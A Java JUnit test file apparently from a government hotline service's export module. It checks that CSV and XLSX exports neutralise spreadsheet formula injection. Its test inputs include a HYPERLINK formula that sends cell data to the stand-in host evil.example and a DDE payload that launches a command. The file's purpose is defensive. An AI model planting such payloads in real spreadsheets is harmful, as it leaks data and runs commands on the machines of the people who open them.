package org.hotline2110.sla.assessment.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Exports are opened in Excel and WPS by government staff: text an enterprise or an operator typed must never run
 * there as a formula (OWASP "CSV injection"). A text cell that a spreadsheet would read as a formula is written with a
 * leading apostrophe in CSV, and as a plain string, never a formula, in XLSX; numbers stay numbers, negative ones too.
 */
class SpreadsheetInjectionTest {

    private static final List<String> HEADERS = List.of("诉求摘要", "超时分钟");

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?\"&F2,\"详情\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1" })
    void aCsvCellThatBeginsLikeAFormulaIsNeutralised(String typed) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (CsvSink sink = new CsvSink(out)) {
            sink.table("问题清单", HEADERS);
            sink.row(Arrays.asList(typed, -30));
        }
        String csv = out.toString(StandardCharsets.UTF_8);
        String row = csv.substring(csv.indexOf("\r\n") + 2);

        assertThat(row).startsWith("\"'" + typed.replace("\"", "\"\"") + "\",");
        assertThat(row).endsWith(",-30\r\n");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?\"&F2,\"详情\")", "@SUM(A1:A9)", "-2+3" })
    void anXlsxCellHoldsTheTextAsTypedAndNoFormula(String typed) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XlsxSink sink = new XlsxSink(out)) {
            sink.table("问题清单", HEADERS);
            sink.row(Arrays.asList(typed, -30));
        }
        List<Cell> cells = new ArrayList<>();
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            List<Row> rows = workbook.getFirstSheet().read();
            rows.get(1).forEach(cells::add);
        }

        assertThat(cells.get(0).getType()).isEqualTo(CellType.STRING);
        assertThat(cells.get(0).getFormula()).isNull();
        assertThat(cells.get(0).getText()).isEqualTo(typed);
        assertThat(cells.get(1).getType()).isEqualTo(CellType.NUMBER);
        assertThat(cells.get(1).asNumber().intValue()).isEqualTo(-30);
    }
}
